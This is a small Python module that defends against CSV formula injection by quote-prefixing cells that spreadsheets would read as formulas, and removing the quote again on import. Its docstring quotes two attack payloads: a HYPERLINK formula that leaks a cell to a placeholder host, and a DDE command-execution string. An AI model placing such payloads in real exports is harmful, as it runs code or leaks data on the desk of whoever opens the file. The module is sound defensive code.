"""CSV cells that a spreadsheet will not run (CSV/formula injection).

Excel, WPS and LibreOffice treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
in some versions, a tab or carriage return before them) as a formula: an exported
watchlist whose ``reason`` reads ``=HYPERLINK("http://x/?"&A1, "click")`` or
``+cmd|' /C calc'!A0`` would run on the desk of whoever opens the export (issue 11,
item 8). OWASP's guidance is to prefix such cells with a single quote, which the
spreadsheet shows as text; :func:`unescape_cell` takes that quote off again on import, so
an export reads back unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""


def escape_cell(text: str) -> str:
    """``text`` with a leading ``'`` if it starts like a formula, else unchanged."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def unescape_cell(text: str) -> str:
    """The inverse of :func:`escape_cell`: drops a ``'`` that precedes a formula start."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
